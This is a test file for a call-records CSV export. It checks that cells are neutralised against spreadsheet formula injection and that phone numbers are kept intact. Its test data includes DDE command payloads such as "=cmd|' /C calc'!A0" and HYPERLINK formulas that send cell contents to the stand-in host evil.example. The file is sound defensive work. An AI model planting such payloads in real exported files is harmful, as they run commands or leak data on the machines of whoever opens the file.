// The calls export shared by the CLI and the console (clients/console/site/console/csv-export.js):
// OWASP's CSV-injection rule on every cell, phone numbers and plain numbers kept as they are, and the
// file read back by a standard CSV parser and by the API's own leads parser.

import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { Call } from '../../clients/cli/api-client.ts';
import { callsCsv, csvCell, safeCellText } from '../../clients/console/site/console/csv-export.js';
import { parseCsvLeads } from '../../lambdas/core/csv-leads.ts';
import { maskPhone } from '../../lambdas/core/leads.ts';

/** Valid Israeli and US mobile numbers (libphonenumber-js `max`). */
const PHONES = ['+972524567123', '+972534881290', '+12025550143'];

/** What a spreadsheet would run: a cell read back from the file that starts a formula. */
const RUNS = /^(?:[=+\-@\t\r\n\0]|\s+[=+\-@])/;

function call(phone: string, attributes: Call['attributes'] = {}, over: Partial<Call> = {}): Call {
  return {
    job_id: '000001',
    phone,
    status: 'completed',
    outcome: 'completed',
    attempts: 1,
    error_code: null,
    call_sid: 'CA0123456789abcdef0123456789abcdef',
    queued_at: '2026-11-30T04:00:00.000Z',
    dialed_at: '2026-11-30T04:00:01.000Z',
    answered_at: '2026-11-30T04:00:03.000Z',
    ended_at: '2026-11-30T04:00:40.000Z',
    attributes,
    ...over,
  } as Call;
}

/** The cells of a CSV text, as a standard parser reads them. */
function cells(text: string): string[][] {
  return parse(text, { relax_column_count: true }) as string[][];
}

describe('a cell a spreadsheet would run gets a leading quote', () => {
  it.each([
    ['=HYPERLINK("https://evil.example/?"&A2,"Open")'],
    ["=cmd|' /C calc'!A0"],
    ["+cmd|' /C calc'!A0"],
    ["-2+3+cmd|' /C calc'!A0"],
    ["@SUM(1+1)*cmd|' /C calc'!A0"],
    ['\t=1+1'],
    ['\r=1+1'],
    ['\n=1+1'],
    ['\0=1+1'],
    ['   =1+1'],
    ['-'],
    ['+972 52 456 7123'],
    ['+972524567123=1'],
    ['+972*******23+A1'],
    ['-1+1'],
  ])('%j', (text) => {
    expect(safeCellText(text)).toBe(`'${text}`);
    const [[read]] = cells(csvCell(text)) as [[string]];
    expect(read).toBe(`'${text}`);
    expect(read).not.toMatch(RUNS);
  });
});

describe('phone numbers and plain numbers are written as they are', () => {
  it.each([
    ...PHONES,
    ...PHONES.map(maskPhone),
    '-120',
    '-120.50',
    '+3.5',
    '-1e-7',
    'Dana Levi',
    '',
    '2026-11-30T04:00:40.000Z',
  ])('%j', (text) => {
    expect(safeCellText(text)).toBe(text);
    expect(cells(csvCell(text))).toEqual([[text]]);
  });

  it('numbers, null and missing values', () => {
    expect(safeCellText(-120.5)).toBe('-120.5');
    expect(safeCellText(-1e-7)).toBe('-1e-7');
    expect(safeCellText(0)).toBe('0');
    expect(safeCellText(false)).toBe('false');
    expect(safeCellText(null)).toBe('');
    expect(safeCellText(undefined)).toBe('');
  });
});

describe('every cell is quoted, its quotes doubled', () => {
  it('separators, quotes and line breaks stay inside their cell', () => {
    expect(csvCell('a "b", c\nd')).toBe('"a ""b"", c\nd"');
    expect(csvCell(7)).toBe('"7"');
    expect(cells(`${csvCell('x,"=1+1"')},${csvCell('y')}`)).toEqual([['x,"=1+1"', 'y']]);
  });

  it('any text reads back as itself, or as itself after a quote when it would run', () => {
    fc.assert(
      fc.property(
        fc.oneof(
          fc.string({ unit: 'grapheme' }),
          fc.string({ unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', ' ', '"', ',', '1', 'a') }),
        ),
        (text) => {
          const [[read = ''] = []] = cells(`${csvCell(text)},"end"`).map((row) => row.slice(0, 1));
          expect([text, `'${text}`]).toContain(read);
          if (read !== text) expect(text).toMatch(RUNS);
          // What reads back runs nothing, unless it is a number or a phone number and nothing else.
          if (RUNS.test(read)) expect(read).toMatch(/^[+-]?[\d.]+(?:[eE][+-]?\d+)?$|^\+\d+\*+\d+$/);
        },
      ),
      { numRuns: 500 },
    );
  });
});

describe('callsCsv', () => {
  it('neutralises lead fields and their names, keeps phone numbers, one column per field', () => {
    const text = callsCsv([
      call(PHONES[0]!, { name: '=HYPERLINK("https://evil.example","Dana")', balance: -120 }),
      call(PHONES[1]!, { '@owner': 'Noa', alt_phone: PHONES[2]! }, { job_id: '000002', error_code: 21211 }),
    ]);
    const [header, first, second] = cells(text) as [string[], string[], string[]];
    expect(header).toEqual([
      'job_id',
      'phone',
      'status',
      'outcome',
      'attempts',
      'error_code',
      'call_sid',
      'queued_at',
      'dialed_at',
      'answered_at',
      'answered_by',
      'ended_at',
      'name',
      'balance',
      "'@owner",
      'alt_phone',
    ]);
    expect(first.slice(0, 2)).toEqual(['000001', PHONES[0]]);
    expect(first.slice(12)).toEqual(['\'=HYPERLINK("https://evil.example","Dana")', '-120', '', '']);
    expect(second[5]).toBe('21211');
    expect(second.slice(12)).toEqual(['', '', 'Noa', PHONES[2]]);
    for (const row of [header, first, second]) for (const cell of row) expect(cell).not.toMatch(/^[=@]/);
    // Every cell of the file is quoted.
    expect(text.split('\n')[1]).toMatch(/^"000001","\+972524567123","completed",/);
  });

  it('an export with whole numbers is a leads file the API reads back: same numbers, fields as text', () => {
    const text = callsCsv([
      call(PHONES[0]!, { name: '-Dana-' }),
      call(PHONES[1]!, { name: 'Noa, "the boss"' }, { job_id: '000002' }),
    ]);
    const { leads } = parseCsvLeads(text);
    expect(leads.map((lead) => lead.phone)).toEqual(PHONES.slice(0, 2));
    expect(leads.map((lead) => lead.name)).toEqual(["'-Dana-", 'Noa, "the boss"']);
  });

  it('masked numbers stay as the API lists them', () => {
    const masked = maskPhone(PHONES[0]!);
    const [, row] = cells(callsCsv([call(masked)])) as [string[], string[]];
    expect(row[1]).toBe(masked);
  });
});
